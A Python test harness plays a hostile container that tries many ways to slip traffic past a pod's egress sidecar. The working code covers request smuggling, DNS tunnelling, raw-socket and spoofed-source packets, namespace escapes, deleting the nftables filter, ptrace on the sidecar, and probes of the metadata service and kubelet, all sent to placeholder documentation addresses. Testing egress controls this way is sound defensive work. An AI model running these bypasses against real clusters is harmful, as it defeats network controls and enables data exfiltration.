"""adversary.py TARGETS: a hostile application. It tries every way out of a pod that an application's container can try, by the rows
of docs/THREATS.md, and prints a line of JSON for each: what it tried, whether an answer came back, and by what its arrival is known.

It needs nothing but Python's standard library. TARGETS is JSON:

listed        {"name", "v4", "v6"}: a party that the pod may reach over TLS on 443 and HTTP on 80
unlisted      a name that nobody lists; labels are put before it
strangers_v4  a network of documentation addresses where nobody is, and strangers_v6: each way that is seen by its address has one of its own
              there, and the others have the last together
resolver      the cluster's resolver; foreign_resolver: another one
own           the pod's own addresses: {"v4", "v6"}
opaque        [address, port] of a party that is listed by name, and that this pod has not looked up
inside        {name of a way: [address, port, protocol]}: places in the cluster and on the node, protocol "http" or "tls"
sockets       paths of the node's own sockets, absent where the file system is not a container's
knocked       a port to which somebody outside sends datagrams over and over, absent where nobody does; knocker: his address
"""
import ctypes
import errno
import fcntl
import glob
import ipaddress
import json
import os
import select
import signal
import socket
import ssl
import struct
import sys

PATIENCE = 1.5  # seconds that a way waits for an answer
LIMIT = 8  # seconds after which a way is broken off
AT_ONCE = 12

WAYS = []


def way(row, name, sees=(), inside=None):
    """A way out of a row. `sees` says by what it is seen outside besides its marker, which is in its bytes: its own address of a
    family (4, 6) or in another form, that of the opaque party, or the name of a question. `inside` is what it needs to be told."""

    def register(function):
        WAYS.append((row, name, sees, inside, function))
        return function

    return register


class Try:
    """One attempt: its targets, its own addresses, and a marker that nothing else carries."""

    def __init__(self, targets, number, sees):
        self.__dict__.update(targets)
        self.marker = f"adversary-{number:03d}"
        own = {4, 6} & set(sees)
        place = sum(bool({4, 6} & set(other[2])) for other in WAYS[:number]) + 1 if own else -2
        self.v4 = str(ipaddress.ip_network(self.strangers_v4)[place])
        self.v6 = str(ipaddress.ip_network(self.strangers_v6)[place])
        self.question = f"{self.marker}.{self.unlisted}"

    @property
    def bytes(self):
        return self.marker.encode()


# ---- what several ways do ----------------------------------------------------------------------------------------------------


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def connect(address, port):
    return socket.create_connection((address, port), PATIENCE)


def hear(stream):
    """What comes back; nothing where the other side is silent or gone."""
    stream.settimeout(PATIENCE)
    try:
        return stream.recv(4096)
    except OSError:
        return b""


def by_tcp(address, port, data=b"", pieces=None):
    """Opens a connection, says something, and gives what comes back."""
    with connect(address, port) as stream:
        stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for piece in pieces or [data]:
            stream.sendall(piece)
        return hear(stream)


def by_udp(address, port, data, options=()):
    with socket.socket(family(address), socket.SOCK_DGRAM) as s:
        for option in options:
            s.setsockopt(*option)
        s.sendto(data, (address, port))


def ask_udp(address, message):
    with socket.socket(family(address), socket.SOCK_DGRAM) as s:
        s.sendto(message, (address, 53))
        return hear(s)


def framed(message):
    return struct.pack("!H", len(message)) + message


def ask_tcp(address, message, port=53):
    return by_tcp(address, port, framed(message))


def question(name, kind=16, flags=0x0100, extra=b"", counts=(1, 0, 0, 0)):
    """A DNS query; 16 is TXT."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HH4H", 0x6164, flags, *counts) + labels + b"\0" + struct.pack("!HH", kind, 1) + extra


def get(host, target="/", more=""):
    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode()


def hello(name):
    """The ClientHello of a real client, in one record."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(into, out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def hello_with(name, extension, content):
    """The same with one more extension."""
    data = bytearray(hello(name))
    suites = 44 + data[43]
    compression = suites + 2 + int.from_bytes(data[suites : suites + 2], "big")
    extensions = compression + 1 + data[compression]
    added = struct.pack("!HH", extension, len(content)) + content
    for at, size in ((3, 2), (6, 3), (extensions, 2)):
        data[at : at + size] = (int.from_bytes(data[at : at + size], "big") + len(added)).to_bytes(size, "big")
    data[extensions + 2 : extensions + 2] = added
    return bytes(data)


def is_answer(data):
    """Whether a party answered: neither silence, nor the sidecar's alert or refusal."""
    return bool(data) and data[:1] != b"\x15" and b" 403 " not in data[:16] and b" 400 " not in data[:16]


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def syn(source, destination, port):
    """The first segment of a TCP connection, made by hand."""
    segment = lambda total: struct.pack("!HHIIBBHHH", 40000, port, 1, 0, 5 << 4, 2, 1024, total, 0)
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    return segment(checksum(ends + struct.pack("!HH", 6, 20) + segment(0)))


def packet(t, protocol=17):
    """A whole IPv4 packet with the marker in it."""
    payload = struct.pack("!HHHH", 40000, 9999, 8 + len(t.bytes), 0) + t.bytes
    ends = socket.inet_aton(t.own["v4"]) + socket.inet_aton(t.v4)
    head = lambda total: struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, total) + ends
    return head(checksum(head(0))) + payload


LIBC = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    if getattr(LIBC, name)(*arguments) != 0:
        raise OSError(ctypes.get_errno(), name)


# ---- 1, 2, 3: names ----------------------------------------------------------------------------------------------------------


@way(1, "TLS with a listed name to another address", (4,))
def _(t):
    # the sidecar may reach the listed party instead, whose answer is none of the stranger's
    by_tcp(t.v4, 443, hello(t.listed["name"]))


@way(1, "TLS with a listed name to another address over IPv6", (6,))
def _(t):
    by_tcp(t.v6, 443, hello(t.listed["name"]))


@way(1, "HTTP with a listed host to another address", (4,))
def _(t):
    by_tcp(t.v4, 80, get(t.listed["name"]))


TWO_LENGTHS = "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n"
UPGRADE = "Upgrade: h2c\r\nHTTP2-Settings: AAMA\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def fronted(name, request, allowed=0):
    """Requests to a listed address, of which so many may be answered."""

    @way(2, name)
    def _(t):
        with connect(t.listed["v4"], 80) as stream:
            for piece in request(t):
                stream.sendall(piece)
            said = b""
            while more := hear(stream):
                said += more
            return said.count(b"HTTP/1.1 200") + said.count(b"HTTP/1.0 200") > allowed


fronted("another host in the target than in Host", lambda t: [get(t.listed["name"], f"http://{t.question}/")])
fronted("another host in Host than in the target", lambda t: [get(t.question, f"http://{t.listed['name']}/")])
fronted("two hosts", lambda t: [get(t.listed["name"], more=f"Host: {t.question}\r\n")])
fronted("a host behind a user", lambda t: [get(f"{t.listed['name']}@{t.question}")])
fronted("an unlisted host at a listed address", lambda t: [get(t.question)])
fronted("a second request in the same packet", lambda t: [get(t.listed["name"]) + get(t.question)], 1)
fronted(
    "a request behind a body of two lengths",
    lambda t: [get(t.listed["name"], more=TWO_LENGTHS) + b"0\r\n\r\n" + get(t.question)],
)
fronted("a request for HTTP/2", lambda t: [PREFACE + t.bytes])
fronted("a tunnel", lambda t: [f"CONNECT {t.question}:443 HTTP/1.1\r\nHost: {t.listed['name']}\r\n\r\n".encode()])
fronted("a tunnel behind an empty line", lambda t: [b"\r\n" + f"CONNECT / HTTP/1.1\r\nHost: {t.question}\r\n\r\n".encode()])
fronted(
    "an upgrade to HTTP/2, and its preface",
    lambda t: [get(t.listed["name"], more=UPGRADE) + PREFACE + t.bytes],
    1,
)
fronted("folded lines", lambda t: [f"GET / HTTP/1.1\r\nHost:\r\n {t.question}\r\n\r\n".encode()])
fronted("noise", lambda t: [b"\x00\x01" + t.bytes])


@way(2, "TLS with an unlisted name at a listed address")
def _(t):
    return by_tcp(t.listed["v4"], 443, hello(t.question))


@way(3, "a hello with an encrypted name")
def _(t):
    return by_tcp(t.listed["v4"], 443, hello_with(t.listed["name"], 0xFE0D, t.bytes + bytes(100)))


# ---- 4: datagrams ------------------------------------------------------------------------------------------------------------

QUIC = b"\xc0\0\0\0\1\x08" + bytes(1200)


def datagram(name, version, port, data=QUIC, **how):
    @way(4, name, (version,))
    def _(t):
        by_udp(t.v4 if version == 4 else t.v6, port, data, **how)


datagram("QUIC", 4, 443)
datagram("QUIC over IPv6", 6, 443)
datagram("UDP to the port of DNS over TLS", 4, 853)
datagram("UDP to the port of NTP", 4, 123)
datagram("UDP to a high port", 4, 40404)
datagram("UDP to a high port over IPv6", 6, 40404)
datagram("an empty datagram", 4, 9, b"")
datagram("UDP bound to the outer interface", 4, 9999, options=[(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")])
datagram("UDP bound to the outer interface over IPv6", 6, 9999, options=[(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")])
datagram("UDP in segments", 4, 9999, b"x" * 400, options=[(socket.IPPROTO_UDP, 103, 100)])  # UDP_SEGMENT


@way(4, "UDP bound to the outer interface, by its bytes")
def _(t):
    bound = (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
    for address in (t.v4, t.v6):
        by_udp(address, 9999, t.bytes, [bound])


@way(4, "UDP from an address that the packet says", (4,))
def _(t):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        # IP_PKTINFO is 8
        info = struct.pack("i4s4s", socket.if_nametoindex("eth0"), socket.inet_aton(t.own["v4"]), bytes(4))
        s.sendmsg([t.bytes], [(socket.IPPROTO_IP, 8, info)], 0, (t.v4, 9999))


@way(4, "UDP to a listed address")
def _(t):
    by_udp(t.listed["v4"], 443, t.bytes)


@way(4, "multicast and broadcast")
def _(t):
    by_udp("224.0.0.251", 5353, t.bytes)
    by_udp("255.255.255.255", 9999, t.bytes, [(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)])
    index = struct.pack("@I", socket.if_nametoindex("eth0"))
    by_udp("ff02::fb", 5353, t.bytes, [(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)])


@way(4, "an answer to a datagram from outside", inside="knocked")
def _(t):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((t.own["v4"], t.knocked))
        s.settimeout(PATIENCE)
        _, knocker = s.recvfrom(64)
        s.sendto(t.bytes, knocker)


# ---- 5, 6, 7: questions ------------------------------------------------------------------------------------------------------


@way(5, "a question to the cluster's resolver", ("question",))
def _(t):
    ask_udp(t.resolver, question(t.question))


@way(5, "a question by the C library", ("question",))
def _(t):
    try:
        socket.getaddrinfo(f"{t.question}.", 80)
    except OSError:
        pass


@way(5, "a question to a resolver elsewhere", ("question",))
def _(t):
    ask_udp(t.foreign_resolver, question(t.question))


@way(5, "a question to a resolver where nobody is", (4,))
def _(t):
    ask_udp(t.v4, question(t.question))


@way(5, "a question below a listed name")
def _(t):
    ask_udp(t.resolver, question(f"{t.marker}.of.{t.listed['name']}"))


def hidden(name, message):
    @way(5, name)
    def _(t):
        ask_udp(t.resolver, message(t))


def option(data):
    """EDNS with an option of local use (RFC 6891)."""
    return b"\0" + struct.pack("!HHIHHH", 41, 1232, 0, 4 + len(data), 65001, len(data)) + data


hidden("a listed question with an option", lambda t: question(t.listed["name"], 1, extra=option(t.bytes), counts=(1, 0, 0, 1)))
hidden("a listed question with bytes behind it", lambda t: question(t.listed["name"], 1, extra=t.bytes))
hidden("two questions", lambda t: question(t.listed["name"], 1, extra=question(t.question)[12:], counts=(2, 0, 0, 0)))
hidden("an update", lambda t: question(t.question, 6, flags=0x2800))
hidden("a message of no form to the port of DNS", lambda t: t.bytes)


@way(6, "a question over TCP", ("question",))
def _(t):
    ask_tcp(t.resolver, question(t.question))


@way(6, "a question over TCP to a resolver elsewhere", ("question",))
def _(t):
    ask_tcp(t.foreign_resolver, question(t.question))


@way(6, "DNS over TLS", (4,))
def _(t):
    return by_tcp(t.v4, 853, hello(f"dns.{t.unlisted}"))


@way(6, "DNS over HTTPS", (4,))
def _(t):
    return by_tcp(t.v4, 443, hello(f"dns.{t.unlisted}"))


@way(7, "TCP to the resolver on another port")
def _(t):
    by_tcp(t.resolver, 80, get("x", f"/{t.marker}"))


@way(8, "an address that was never looked up", ("opaque",))
def _(t):
    by_tcp(*t.opaque, t.bytes)


# ---- 9, 10: who the process is -----------------------------------------------------------------------------------------------


def as_user(user):
    @way(9, f"TCP as user {user}", (4,))
    def _(t):
        if os.getuid() != user:
            os.setgroups([])
            os.setgid(user)
            os.setuid(user)
        return by_tcp(t.v4, 80, get("x"))


for number in (0, 65532, 1337):
    as_user(number)


def marked(mark):
    @way(10, f"TCP with the mark {mark:#x}", (4,))
    def _(t):
        with socket.socket() as s:
            s.settimeout(PATIENCE)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, struct.pack("I", mark))
            s.connect((t.v4, 80))


for number in (0x5BA1, 0x5BA2, 0x5BA3, 0xFFFFFFFF):
    marked(number)


@way(10, "UDP with the sidecar's mark, said with the packet", (4,))
def _(t):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendmsg([t.bytes], [(socket.SOL_SOCKET, socket.SO_MARK, struct.pack("I", 0x5BA1))], 0, (t.v4, 9999))


@way(10, "the mark in a user namespace of its own", (4,))
def _(t):
    call("unshare", 0x10000000)  # CLONE_NEWUSER
    by_udp(t.v4, 9999, t.bytes, [(socket.SOL_SOCKET, socket.SO_MARK, 0x5BA1)])


@way(10, "a network namespace of its own", (4,))
def _(t):
    call("unshare", 0x50000000)  # CLONE_NEWUSER and CLONE_NEWNET
    by_udp(t.v4, 9999, t.bytes)


@way(10, "the network namespace of another process", (4,))
def _(t):
    mine = os.stat("/proc/self/ns/net").st_ino
    for path in glob.glob("/proc/[0-9]*/ns/net"):
        try:
            other = os.open(path, os.O_RDONLY)
        except FileNotFoundError:
            continue  # it has ended
        if os.fstat(other).st_ino != mine:
            call("setns", other, 0x40000000)  # CLONE_NEWNET
            return by_udp(t.v4, 9999, t.bytes)
    raise PermissionError("there is no other")


@way(10, "TCP bound to the outer interface", (4,))
def _(t):
    with socket.socket() as s:
        s.settimeout(PATIENCE)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
        s.connect((t.v4, 80))
        s.sendall(t.bytes)


@way(10, "TCP by a raw socket", (4,))
def _(t):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as s:
        s.sendto(syn(t.own["v4"], t.v4, 80), (t.v4, 0))


@way(10, "a whole packet by a raw socket", (4,))
def _(t):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(packet(t), (t.v4, 0))


@way(10, "a packet below the filter")
def _(t):
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as s:
        s.sendto(packet(t), ("eth0", 0x0800, 0, 0, b"\xff" * 6))


@way(10, "a frame below the filter")
def _(t):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as s:
        s.bind(("eth0", 0))
        mine = fcntl.ioctl(s, 0x8927, struct.pack("256s", b"eth0"))[18:24]  # SIOCGIFHWADDR
        s.send(b"\xff" * 6 + mine + b"\x08\0" + packet(t))


@way(10, "the filter removed", (4,))
def _(t):
    # NFT_MSG_DELTABLE of the table shekara of the family inet, in a batch (libnftables, netlink(7))
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as s:
        message = lambda kind, flags, number, body: struct.pack("=IHHII", 16 + len(body), kind, flags, number, 0) + body
        name = b"shekara\0"
        table = struct.pack("=BBH", 1, 0, 0) + struct.pack("=HH", 4 + len(name), 1) + name
        batch = struct.pack("!BBH", 0, 0, 10)
        s.send(message(16, 1, 1, batch) + message(0x0A02, 5, 2, table) + message(17, 1, 3, batch))
        code = struct.unpack_from("=i", hear(s), 16)[0]
        if code not in (0, -errno.ENOENT):
            raise OSError(-code, "nft")
    by_udp(t.v4, 9999, t.bytes)


# ---- 16, 17, 18, 19: addresses and first bytes -------------------------------------------------------------------------------


def written(name, form):
    @way(16, name, (4, "form"))
    def _(t):
        return by_tcp(form(ipaddress.ip_address(t.v4)), 80, get("x"))


FORMS = {
    "mapped into IPv6": lambda v4: f"::ffff:{v4}",
    "for a translator (NAT64)": lambda v4: f"64:ff9b::{v4}",
    "for a translator of its own": lambda v4: f"64:ff9b:1::{v4}",
    "through 6to4": lambda v4: str(ipaddress.IPv6Address(0x2002 << 112 | int(v4) << 80 | 1)),
    "through Teredo": lambda v4: str(ipaddress.IPv6Address(0x20010000 << 96 | int(v4) << 64)),
}
for form_name, form_of in FORMS.items():
    written(f"an IPv4 address {form_name}", form_of)


@way(16, "TCP over IPv6", (6,))
def _(t):
    return by_tcp(t.v6, 80, get("x"))


@way(16, "UDP to a mapped address", (4,))
def _(t):
    by_udp(f"::ffff:{t.v4}", 9999, t.bytes)


@way(17, "TLS without a name", (4,))
def _(t):
    return by_tcp(t.v4, 443, hello(None))


@way(17, "HTTP with an address for a host", (4,))
def _(t):
    return by_tcp(t.v4, 80, get(t.v4))


@way(17, "opaque TCP", (4,))
def _(t):
    return by_tcp(t.v4, 7, t.bytes)


@way(17, "a listed address on another port")
def _(t):
    by_tcp(t.listed["v4"], 1883, t.bytes)


@way(17, "TLS without a name to a listed address")
def _(t):
    return by_tcp(t.listed["v4"], 443, hello_with(None, 0x0A0A, t.bytes))


@way(18, "a client that waits for the server", (4,))
def _(t):
    return by_tcp(t.v4, 25)


@way(18, "a half-closed client", (4,))
def _(t):
    with connect(t.v4, 3306) as stream:
        stream.shutdown(socket.SHUT_WR)
        return hear(stream)


@way(19, "a hello in single bytes", (4,))
def _(t):
    return by_tcp(t.v4, 443, pieces=[bytes([byte]) for byte in hello(t.question)])


@way(19, "a hello in records of single bytes")
def _(t):
    message = hello_with(t.question, 0x0A0A, t.bytes)
    by_tcp(t.listed["v4"], 443, b"".join(b"\x16\3\1\0\1" + bytes([byte]) for byte in message[5:]) + t.bytes)


@way(19, "a hello larger than any")
def _(t):
    by_tcp(t.listed["v4"], 443, b"\x16\3\1\x40\0\1\0\x7f\xff" + t.bytes * 2000)


@way(19, "half a hello, and the rest elsewhere")
def _(t):
    by_tcp(t.listed["v4"], 443, hello_with(t.listed["name"], 0x0A0A, t.bytes)[:-20])


@way(19, "urgent data")
def _(t):
    with connect(t.listed["v4"], 443) as stream:
        stream.send(t.bytes, socket.MSG_OOB)
        hear(stream)


@way(19, "data in the first packet", (4,))
def _(t):
    with socket.socket() as s:
        s.settimeout(PATIENCE)
        try:
            s.sendto(t.bytes, socket.MSG_FASTOPEN, (t.v4, 443))
        except BlockingIOError:
            select.select([], [s], [], PATIENCE)


@way(19, "many half-open connections", (4,))
def _(t):
    streams = []
    for _ in range(200):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex((t.v4, 443))
        streams.append(s)
    select.select([], streams, [], PATIENCE)


# ---- 21, 22, 32, 36, 39: inside the cluster and on the node ------------------------------------------------------------------


def within(row, name):
    @way(row, name, inside=name)
    def _(t):
        address, port, protocol = t.inside[name]
        said = by_tcp(address, port, hello_with(None, 0x0A0A, t.bytes) if protocol == "tls" else get("x", f"/{t.marker}"))
        return is_answer(said)


within(21, "an uncovered pod")
within(22, "the metadata service")
within(22, "the node")
within(22, "a private network")
within(32, "the API server")
within(36, "the policy API")
within(39, "the kubelet")


# ---- 28, 29, 30: the sidecar and the node's sockets --------------------------------------------------------------------------


@way(28, "the sidecar's process", (4,))
def _(t):
    for path in glob.glob("/proc/[0-9]*/comm"):
        try:
            with open(path, encoding="utf-8") as file:
                if "shekara" not in file.read():
                    continue
        except FileNotFoundError:
            continue  # it has ended
        process = int(path.split("/")[2])
        os.listdir(f"/proc/{process}/root/")
        call("ptrace", 16, process, 0, 0)  # PTRACE_ATTACH
        return by_udp(t.v4, 9999, t.bytes)
    raise ProcessLookupError("there is none")


def own_port(name, address, port, data):
    @way(29, name)
    def _(t):
        by_tcp(address, port, data(t))


def tunnel(t):
    return f"CONNECT {t.v4}:80 HTTP/1.1\r\nHost: {t.question}\r\n\r\n".encode()


for loopback in ("127.0.0.1", "::1"):
    own_port(f"HTTP to the proxy at {loopback}", loopback, 15001, lambda t: get(t.listed["name"], f"/{t.marker}"))
    own_port(f"HTTP to the port for what comes in at {loopback}", loopback, 15006, lambda t: get(t.listed["name"], f"/{t.marker}"))
    own_port(f"a question to the sidecar's resolver at {loopback}", loopback, 15053, lambda t: framed(question(t.question)))
    own_port(f"a tunnel through the administration port at {loopback}", loopback, 15020, tunnel)


@way(29, "UDP to the sidecar's own ports")
def _(t):
    for port in (15001, 15006, 15009, 15020, 15053, 15100):
        by_udp("127.0.0.1", port, question(t.question))


@way(30, "sockets of the node", inside="sockets")
def _(t):
    for path in t.sockets:
        if os.path.exists(path):
            with socket.socket(socket.AF_UNIX) as s:
                s.settimeout(PATIENCE)
                s.connect(path)
                s.sendall(get("x"))
                if hear(s):
                    return True
    raise FileNotFoundError("there is none")


# ---- 31: other protocols -----------------------------------------------------------------------------------------------------


def echo_request(name, kind, version):
    @way(31, name, (version,))
    def _(t):
        address = t.v4 if version == 4 else t.v6
        protocol, code = (socket.IPPROTO_ICMP, 8) if version == 4 else (socket.IPPROTO_ICMPV6, 128)
        with socket.socket(family(address), kind, protocol) as s:
            head = struct.pack("!BBHHH", code, 0, 0, 0, 1)
            total = checksum(head + t.bytes) if kind == socket.SOCK_RAW and version == 4 else 0
            s.sendto(struct.pack("!BBHHH", code, 0, total, 0, 1) + t.bytes, (address, 0))
            return hear(s)


echo_request("ICMP by the socket for everybody", socket.SOCK_DGRAM, 4)
echo_request("ICMPv6 by the socket for everybody", socket.SOCK_DGRAM, 6)
echo_request("ICMP by a raw socket", socket.SOCK_RAW, 4)
echo_request("ICMPv6 by a raw socket", socket.SOCK_RAW, 6)


def raw(name, protocol, version=4):
    @way(31, name, (version,))
    def _(t):
        address = t.v4 if version == 4 else t.v6
        with socket.socket(family(address), socket.SOCK_RAW, protocol) as s:
            s.sendto(struct.pack("!HHI", 40000, 9, 0) + bytes(4) + t.bytes, (address, 0))


raw("SCTP by a raw socket", 132)
raw("SCTP by a raw socket over IPv6", 132, 6)
raw("GRE", 47)
raw("IP in IP", 4)
raw("ESP", 50)


def by_kernel(name, kind, protocol, version=4):
    @way(31, name, (version,))
    def _(t):
        address = t.v4 if version == 4 else t.v6
        with socket.socket(family(address), kind, protocol) as s:
            s.settimeout(PATIENCE)
            if kind == socket.SOCK_DGRAM:
                s.sendto(t.bytes, (address, 9999))
            else:
                s.connect((address, 9999))


by_kernel("SCTP by the kernel", socket.SOCK_STREAM, 132)
by_kernel("DCCP by the kernel", 6, 33)
by_kernel("UDP-Lite", socket.SOCK_DGRAM, 136)
by_kernel("UDP-Lite over IPv6", socket.SOCK_DGRAM, 136, 6)
by_kernel("MPTCP", socket.SOCK_STREAM, 262)


@way(31, "a group that is joined")
def _(t):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        # the kernel reports it to whoever listens, with the group's address in it
        group = socket.inet_aton(group_of(t)) + struct.pack("@4si", socket.inet_aton("0.0.0.0"), socket.if_nametoindex("eth0"))
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
        # the report comes within moments
        select.select([], [], [], PATIENCE)


def group_of(t):
    """A group of its own, within those for documentation (RFC 5771, 233.252.0.0/24)."""
    return f"233.252.0.{int(t.marker[-3:])}"


def foreign(name, version, fast):
    """Opens a connection to a listener of its own in the name of a host outside; what the listener answers is addressed there."""

    @way(31, name, (version,))
    def _(t):
        kind = socket.AF_INET if version == 4 else socket.AF_INET6
        own, stranger = (t.own["v4"], t.v4) if version == 4 else (t.own["v6"], t.v6)
        free = (socket.IPPROTO_IP, 15, 1) if version == 4 else (socket.IPPROTO_IPV6, 78, 1)  # IP_FREEBIND, IPV6_FREEBIND
        with socket.socket(kind, socket.SOCK_STREAM) as listener, socket.socket(kind, socket.SOCK_STREAM) as s:
            listener.bind((own, 0))
            if fast:
                listener.setsockopt(socket.IPPROTO_TCP, socket.TCP_FASTOPEN, 5)
            listener.listen()
            s.setsockopt(*free)
            s.bind((stranger, 0))
            s.settimeout(PATIENCE)
            if fast:
                s.sendto(t.bytes, socket.MSG_FASTOPEN, listener.getsockname()[:2])
            else:
                s.connect(listener.getsockname()[:2])


foreign("a connection in the name of a host outside", 4, False)
foreign("a connection in the name of a host outside over IPv6", 6, False)
foreign("the same with data in the first packet", 4, True)
foreign("the same with data in the first packet over IPv6", 6, True)


@way(31, "UDP in the name of a host outside", (4,))
def _(t):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IP, 15, 1)
        s.bind((str(ipaddress.ip_network(t.strangers_v4)[1]), 0))
        s.sendto(t.bytes, (t.v4, 9999))


def named(name, kind, port, data):
    """Says something in the name of a host outside to that very host: whoever answers in its place answers it."""

    @way(31, name, (6,))
    def _(t):
        with socket.socket(socket.AF_INET6, kind) as s:
            s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
            s.bind((t.v6, 0))
            s.settimeout(PATIENCE)
            s.connect((t.v6, port))
            s.sendall(data(t))
            hear(s)


named("a question in the name of a host outside", socket.SOCK_DGRAM, 53, lambda t: question(t.question))
named("a question over TCP in the name of a host outside", socket.SOCK_STREAM, 53, lambda t: framed(question(t.question)))
named("TCP in the name of a host outside", socket.SOCK_STREAM, 443, lambda t: t.bytes)
named("UDP in the name of a host outside over IPv6", socket.SOCK_DGRAM, 9999, lambda t: t.bytes)


@way(31, "a frame of PPPoE")
def _(t):
    # AF_PPPOX and PX_PROTO_OE, which no capability is needed for where the kernel has them (linux/if_pppox.h)
    with socket.socket(24, socket.SOCK_STREAM, 0) as s:
        to = struct.pack("=HIH6s16s", 24, 0, socket.htons(1), b"\xff" * 6, b"eth0")
        call("connect", s.fileno(), to, len(to))
        s.send(t.bytes)


@way(31, "a source route")
def _(t):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton(t.listed["v4"]) + b"\0")
        s.sendto(t.bytes, (t.v4, 9999))


@way(31, "AF_VSOCK")
def _(t):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
        s.settimeout(PATIENCE)
        # the address of this very machine: what is below it is nobody's test host
        s.connect((1, 9999))
        return True


# ---- 38: names under its own control -----------------------------------------------------------------------------------------


@way(38, "a listed name that its own file makes another one", ("question",))
def _(t):
    path = f"/tmp/{t.marker}"
    with open(path, "w", encoding="ascii") as file:
        file.write(f"alias {t.question}\n")
    os.environ["HOSTALIASES"] = path
    try:
        socket.getaddrinfo("alias", 80)
    except OSError:
        pass
    finally:
        os.unlink(path)


# ---- the run -----------------------------------------------------------------------------------------------------------------


def seen_by(t, name, sees):
    """Where something of a way would arrive: addresses, the name of a question, bytes."""
    addresses = [{4: t.v4, 6: t.v6, "opaque": t.opaque[0]}[kind] for kind in sees if kind in (4, 6, "opaque")]
    if "form" in sees:
        addresses += [form_of(ipaddress.ip_address(t.v4)) for form, form_of in FORMS.items() if name.endswith(form)]
    addresses = [str(ipaddress.ip_address(address)) for address in addresses]
    marker = socket.inet_aton(group_of(t)) if name == "a group that is joined" else t.bytes
    return {"addresses": addresses, "question": t.question if "question" in sees else None, "marker": marker.hex()}


def attempt(t, function):
    """What came of it: an answer, nothing, or why it could not be tried."""
    try:
        answer = function(t)
    except OSError as error:
        return {"answered": False, "said": f"{type(error).__name__}: {error}"}
    if isinstance(answer, bytes):
        answer = is_answer(answer)
    return {"answered": bool(answer), "said": ""}


def child(t, function):
    """Tries in a process of its own, since some ways change who the process is. Gives it and where its outcome can be read."""
    reading, writing = os.pipe()
    process = os.fork()
    if process == 0:
        signal.alarm(LIMIT)
        outcome = attempt(t, function)
        os.write(writing, json.dumps(outcome).encode())
        os._exit(0)
    os.close(writing)
    return process, reading


def finish(line, process, reading):
    with os.fdopen(reading, "rb") as pipe:
        said = pipe.read()
    os.waitpid(process, 0)
    outcome = json.loads(said) if said else {"answered": False, "said": "it did not end"}
    print(json.dumps({**line, **outcome}), flush=True)


def main():
    targets = json.loads(sys.argv[1])
    "".encode("idna")  # loaded now, since a user that some ways take may not read the library
    running = []
    for number, (row, name, sees, inside, function) in enumerate(WAYS):
        if inside is not None and inside not in targets.get("inside", {}) and inside not in targets:
            continue
        t = Try(targets, number, sees)
        line = {"row": row, "way": name, **seen_by(t, name, sees)}
        if len(running) == AT_ONCE:
            finish(*running.pop(0))
        running.append((line, *child(t, function)))
    for entry in running:
        finish(*entry)


main()
